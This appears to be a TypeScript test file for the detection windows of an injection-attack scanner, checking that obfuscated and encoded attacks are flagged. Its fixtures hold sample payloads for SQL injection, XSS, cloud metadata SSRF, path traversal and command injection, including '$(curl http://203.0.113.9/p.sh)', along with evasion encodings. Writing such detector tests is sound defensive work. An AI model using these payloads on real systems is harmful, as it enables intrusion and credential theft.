import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { Automaton } from './automaton.ts';
import { FoundLiterals } from './found-literals.ts';
import { LITERALS } from './literals.ts';
import { Variants } from './normalise/variants.ts';
import { Windows } from './windows.ts';

const windows = new Windows(new Automaton(LITERALS));

function read(text: string): { start: number; end: number }[] {
  windows.find({
    units: Uint16Array.from({ length: text.length + 4 }, (_, i) => text.charCodeAt(i) || 0),
    length: text.length,
    decoders: 0,
    changed: new Uint8Array(0),
    isDerived: false,
    literals: new FoundLiterals(),
  });
  return Array.from({ length: windows.count }, (_, i) => ({
    start: windows.starts[i] ?? 0,
    end: windows.ends[i] ?? 0,
  }));
}

const CALM = 'We had a lovely day at the sea and the weather was fine. ';
const ATTACKS = [
  "' or 8=8 -- ",
  '-3 union select login, secret from members#',
  '; cat /etc/passwd',
  '<img src=q onerror=alert(7)>',
  '$(curl http://203.0.113.9/p.sh)',
  '../../../../etc/passwd',
  '{{7*7}}',
  'http://169.254.169.254/latest/meta-data/',
  'en\r\nSet-Cookie: admin=1',
  '*)(uid=*))(|(uid=*',
];

test('prose has no window, and the prose around an attack is in none of its own', () => {
  assert.deepEqual(read(CALM.repeat(40)), []);
  for (const attack of ATTACKS) {
    const found = read(`${CALM.repeat(20)}${attack} ${CALM.repeat(20)}`);
    assert.ok(found.length > 0, attack);
    for (const { start, end } of found) assert.ok(end - start <= attack.length + 64, `${attack}: ${end - start}`);
  }
});

test('an attack stands in a window whatever stands before it', () => {
  fc.assert(
    fc.property(
      fc.constantFrom(...ATTACKS),
      fc.array(fc.constantFrom(CALM, "it's ", '"a":"b", ', '; ', '(x) ', '<b>', ' '.repeat(40), 'A'.repeat(90)), {
        maxLength: 60,
      }),
      (attack, before) => {
        const noise = before.join('');
        const middle = noise.length + Math.floor(attack.length / 2);
        assert.ok(read(`${noise}${attack} ${CALM}`).some(({ start, end }) => start <= middle && middle < end));
      },
    ),
    { numRuns: 300 },
  );
});

test('all windows together are no longer than four times the text', () => {
  fc.assert(
    fc.property(
      fc.array(fc.constantFrom("'", '"', '<', '(', ' or ', 'select ', CALM, ' ', '\n', 'x', '=', ';', '../'), {
        maxLength: 600,
      }),
      (parts) => {
        const text = parts.join('');
        const sum = read(text).reduce((all, { start, end }) => all + end - start, 0);
        assert.ok(sum <= 4 * text.length, `${sum} of ${text.length}`);
      },
    ),
    { numRuns: 300 },
  );
});

test('short text is read as a whole', () => {
  for (const text of ['', "O'Brien", CALM]) assert.deepEqual(read(text)[0], { start: 0, end: text.length });
});

test('what stands between tags is read by itself, too', () => {
  const attack = '; cat /srv/conf';
  for (const [before, after] of [
    ['<b>', ''],
    ['<p>a</p><p>b</p>', '<p>c</p>'],
    ['', '<br>'],
    [`<p>${CALM.repeat(20)}</p>`, `<p>${CALM.repeat(20)}</p>`],
  ] as const) {
    const start = before.length;
    const end = start + attack.length;
    assert.ok(
      read(`${before}${attack}${after}`).some((window) => window.start === start && window.end === end),
      `${before.slice(0, 30)}…`,
    );
  }
});

test('a reading that another was made of has windows only where it differs', () => {
  const programs = 'if (a[i] > b) { return f("x", y) + 1; } '.repeat(60);
  const text = `${programs}u/**/nion sel''ect ${programs}`;
  const variants = new Variants();
  variants.decode(variants.load(text));
  const [raw, plain] = variants.list;
  assert.ok(raw !== undefined && plain !== undefined && variants.count === 2);
  windows.find(raw);
  const all = windows.count;
  windows.find(plain);
  assert.ok(windows.count > 0 && windows.count * 4 < all, `${windows.count} of ${all}`);
  const at = String.fromCharCode(...plain.units.subarray(0, plain.length)).indexOf('select');
  let seen = false;
  for (let w = 0; w < windows.count; w++) {
    const [start, end] = [windows.starts[w] ?? 0, windows.ends[w] ?? 0];
    assert.ok(plain.changed.subarray(start, end).includes(1), `window ${w}`);
    if (start <= at && at < end) seen = true;
  }
  assert.ok(seen);
});

test('whatever a decoder makes or takes away is in a window of the reading it made', () => {
  const hidden = [
    '%3c',
    '&lt;',
    '\\x3c',
    '\uff1c',
    'a\u200b;b',
    'sel/**/ect',
    "c''at",
    'w\\hoami',
    '%253c',
    '/*!9select*/',
  ];
  fc.assert(
    fc.property(
      fc.constantFrom(...hidden),
      fc.integer({ min: 0, max: 40 }),
      fc.integer({ min: 0, max: 40 }),
      (one, before, after) => {
        const text = `${"f('x'); ".repeat(before)}(${one})${" g('y');".repeat(after)}`;
        const variants = new Variants();
        variants.decode(variants.load(text));
        for (const variant of variants.list.slice(1, variants.count)) {
          windows.find(variant);
          for (let i = 0; i < variant.length; i++) {
            if (variant.changed[i] !== 1) continue;
            let inside = false;
            for (let w = 0; w < windows.count; w++)
              if ((windows.starts[w] ?? 0) <= i && i < (windows.ends[w] ?? 0)) inside = true;
            assert.ok(inside, `${i} of ${JSON.stringify(text)}`);
          }
          assert.ok(variant.changed.subarray(0, variant.length).includes(1), JSON.stringify(text));
        }
      },
    ),
    { numRuns: 300 },
  );
});
